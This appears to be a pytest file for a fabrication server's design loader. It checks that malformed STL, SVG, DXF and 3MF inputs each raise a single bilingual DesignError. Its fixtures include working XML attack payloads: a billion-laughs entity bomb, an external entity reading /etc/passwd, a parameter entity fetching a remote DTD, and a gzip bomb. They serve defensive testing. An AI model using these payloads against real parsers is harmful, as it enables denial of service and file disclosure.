"""Bad input: every loader answers with one DesignError in French and English, nothing else."""

from __future__ import annotations

import io
import random
import struct
import zipfile
from pathlib import Path

import ezdxf
import numpy as np
import pytest
import trimesh
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from fabserver.designs import Drawing, Mesh, load_design, load_design_bounded
from fabserver.errors import DesignError
from fabserver.testing import CORPUS, SAMPLES, require_module


def _binary_stl(triangles: np.ndarray, count: int | None = None) -> bytes:
    triangles = np.asarray(triangles, dtype="<f4").reshape(-1, 9)
    records = np.zeros(len(triangles), dtype=[("n", "<f4", 3), ("v", "<f4", 9), ("a", "<u2")])
    records["v"] = triangles
    n = len(triangles) if count is None else count
    return b"\0" * 80 + struct.pack("<I", n) + records.tobytes()


def _bracket() -> bytes:
    return (SAMPLES / "design-bracket.stl").read_bytes()


def _dxf_text_only() -> bytes:
    doc = ezdxf.new("R2010")
    doc.modelspace().add_text("ONLY WORDS")
    doc.modelspace().add_point((0, 0))
    stream = io.StringIO()
    doc.write(stream)
    return stream.getvalue().encode()


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE svg [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&lol3;</text><path d="M0 0 L10 10" stroke="red"/></svg>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&secret;</text><path d="M0 0 L10 10"/></svg>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0 L10 10"/></svg>"""

SQUARE = np.array([[[0, 0, 0], [10, 0, 0], [10, 10, 0]], [[0, 0, 0], [10, 10, 0], [0, 10, 0]]])

BAD_INPUTS: dict[str, tuple[bytes, str]] = {
    # name: (bytes, a word the English message must contain)
    "empty": (b"", "empty"),
    "blank": (b"  \r\n\t ", "empty"),
    "random bytes": (random.Random(7).randbytes(4096), "Unrecognised"),
    "png renamed stl": (b"\x89PNG\r\n\x1a\n" + b"\0" * 200, "PNG image"),
    "jpeg": (b"\xff\xd8\xff\xe0" + b"\0" * 100, "JPEG"),
    "pdf": (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n", "PDF"),
    "html page": (b"<!DOCTYPE html>\n<html><head><title>Thingiverse</title></head></html>", "web page"),
    "plain zip": (_zip({"readme.txt": b"hello"}), "ZIP"),
    "truncated binary stl": (_bracket()[:3000], "truncated"),
    "huge declared count": (_bracket()[:84].replace(_bracket()[80:84], struct.pack("<I", 2**31)) + _bracket()[84:], "truncated"),
    "zero triangles": (_binary_stl(np.zeros((0, 3, 3)), count=0), "no triangles"),
    "flat mesh": (_binary_stl(SQUARE), "flat"),
    "nan mesh": (_binary_stl(np.full((4, 3, 3), np.nan)), "invalid coordinates"),
    "ascii stl cut facet": (b"solid x\nfacet normal 0 0 1\nouter loop\nvertex 0 0 0\nvertex 1 0 0\nendloop\nendfacet\nendsolid\n", "incomplete"),
    "ascii stl words": (b"solid x\nfacet normal 0 0 1\nouter loop\nvertex 0 0 zero\nvertex 1 0 0\nvertex 0 1 0\nendloop\nendfacet\nendsolid\n", "not numbers"),
    "ascii stl no facets": (b"solid x\nendsolid x\n", "no triangles"),
    "xml bomb": (BILLION_LAUGHS, "dangerous"),
    "external entity": (EXTERNAL_ENTITY, "dangerous"),
    "parameter entity": (PARAMETER_ENTITY, "dangerous"),
    "broken xml": (b'<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0 L1 1"', "not valid XML"),
    "xml not svg": (b'<?xml version="1.0"?><svgx:doc xmlns:svgx="x"><svg/></svgx:doc>', "not an SVG"),
    "svg without geometry": (b'<svg xmlns="http://www.w3.org/2000/svg" width="10mm"><g/></svg>', "no visible path"),
    "svg text only": (b'<svg xmlns="http://www.w3.org/2000/svg"><text x="1" y="1">Hi</text></svg>', "convert it to paths"),
    "dxf no geometry": (_dxf_text_only(), "no geometry"),
    "dxf truncated header": (b"0\nSECTION\n2\nHEADER\n9\n$ACADVER\n1\nAC10", "no geometry"),
    "broken 3mf": (_zip({"3D/3dmodel.model": b"<model><resources><object"}), "could not be read"),
    "dwg": (b"AC1027" + b"\0" * 200, "DWG"),
}  # fmt: skip


@pytest.mark.parametrize("name", sorted(BAD_INPUTS))
def test_bad_input_gives_one_bilingual_design_error(name):
    data, word = BAD_INPUTS[name]
    with pytest.raises(DesignError) as info:
        load_design(data, f"{name}.stl")
    message = info.value.message
    assert word in message.en, message.en
    assert message.fr and message.en and message.fr != message.en
    for text in (message.fr, message.en):
        assert "Traceback" not in text and "Error" not in text


def test_compressed_svg_and_gzip_bomb(samples):
    import gzip

    svg = (samples / "design-panel-inches.svg").read_bytes()
    assert load_design(gzip.compress(svg)).size.tolist() == load_design(svg).size.tolist()
    bomb = gzip.compress(b" " * 5_000_000)
    with pytest.raises(DesignError) as info:
        load_design(bomb, max_bytes=1_000_000)
    assert "decompressed" in info.value.message.en
    with pytest.raises(DesignError) as info:
        load_design(gzip.compress(svg)[:40])
    assert "damaged" in info.value.message.en


def test_size_limit():
    data = _bracket()
    with pytest.raises(DesignError) as info:
        load_design(data, max_bytes=1000)
    assert "too large" in info.value.message.en and "trop gros" in info.value.message.fr
    megabytes = f"{len(data) / 1e6:.1f}"
    assert f"({megabytes} MB" in info.value.message.en
    assert f"({megabytes.replace('.', ',')} Mo" in info.value.message.fr  # decimal comma


def test_xml_bomb_refused_before_svgelements(monkeypatch):
    """The check runs first: svgelements must never see the bytes."""
    import svgelements

    def fail(*args, **kwargs):
        raise AssertionError("svgelements reached")

    monkeypatch.setattr(svgelements.SVG, "parse", fail)
    for data in (BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY):
        with pytest.raises(DesignError):
            load_design(data)


def test_illustrator_internal_entities_still_load():
    data = b"""<?xml version="1.0"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [
 <!ENTITY ns_svg "http://www.w3.org/2000/svg">
]>
<svg xmlns="&ns_svg;" width="10mm" height="10mm" viewBox="0 0 10 10"><path d="M1 1 L9 9" stroke="red"/></svg>"""
    drawing = load_design(data)
    np.testing.assert_allclose(drawing.size, [8, 8], atol=1e-6)


# --------------------------------------------------------------------------- bounded


@pytest.fixture(scope="module")
def bracket() -> bytes:
    return _bracket()


def test_bounded_returns_the_design(bracket):
    design = load_design_bounded(bracket, "bracket.stl", timeout_s=60, memory_mb=1024)
    assert isinstance(design, Mesh)
    assert design.volume_mm3 == pytest.approx(load_design(bracket).volume_mm3)


def test_bounded_passes_the_design_error_through():
    with pytest.raises(DesignError) as info:
        load_design_bounded(BILLION_LAUGHS, timeout_s=60)
    assert "dangerous" in info.value.message.en


def test_bounded_memory_limit(corpus):
    data = (corpus / "stl" / "M3x10_screw.stl").read_bytes()
    with pytest.raises(DesignError) as info:
        load_design_bounded(data, timeout_s=60, memory_mb=1)
    assert "too complex" in info.value.message.en and "trop complexe" in info.value.message.fr


def test_bounded_time_limit(corpus):
    data = (corpus / "stl" / "3DBenchy.stl").read_bytes()
    with pytest.raises(DesignError) as info:
        load_design_bounded(data, timeout_s=0.001)
    assert "too complex" in info.value.message.en


# --------------------------------------------------------------------------- fuzz

_FUZZ_SOURCES = [
    SAMPLES / "design-bracket.stl",
    SAMPLES / "design-panel-inches.svg",
    SAMPLES / "design-plate-inches.dxf",
    CORPUS / "stl" / "20mmbox-nonstandard.stl",
    CORPUS / "svg" / "transform-list.svg",
    CORPUS / "svg" / "M-A-trimmed.svg",
    CORPUS / "dxf" / "bin_dxf_r12.dxf",
    CORPUS / "dxf" / "empty_handles.dxf",
]
_FUZZ_DATA = [p.read_bytes() for p in _FUZZ_SOURCES if Path(p).is_file()]


def _must_load_or_refuse(data: bytes) -> None:
    try:
        design = load_design(data, "fuzz")
    except DesignError as exc:
        assert exc.message.fr and exc.message.en
        return
    assert isinstance(design, (Mesh, Drawing))
    assert np.isfinite(design.bounds).all()


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=3000))
def test_fuzz_random_bytes(data):
    _must_load_or_refuse(data)


@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    source=st.integers(min_value=0, max_value=max(0, len(_FUZZ_DATA) - 1)),
    cut=st.floats(min_value=0.0, max_value=1.0),
    flips=st.lists(st.tuples(st.floats(0.0, 1.0), st.integers(0, 255)), max_size=8),
)
def test_fuzz_truncated_and_damaged_corpus_files(source, cut, flips):
    assert _FUZZ_DATA, "the project's samples/ are always among the fuzz sources"
    data = bytearray(_FUZZ_DATA[source])
    for where, value in flips:
        data[int(where * (len(data) - 1))] = value
    _must_load_or_refuse(bytes(data[: max(1, int(cut * len(data)))]))


def test_obj_with_dangling_face_indices():
    data = b"v 0 0 0\nv 1 0 0\nv 0 1 0\nf 1 2 3\nf 1 2 9\n"
    _must_load_or_refuse(data)


def test_3mf_in_other_units_is_scaled():
    require_module("lxml", "trimesh reads 3MF through lxml")
    box = trimesh.creation.box(extents=[1, 2, 3])
    data = trimesh.exchange.threemf.export_3MF(box)
    design = load_design(data, "box.3mf")
    # trimesh writes millimetres by default; the numbers come back unchanged
    np.testing.assert_allclose(design.size, [1, 2, 3], atol=1e-9)
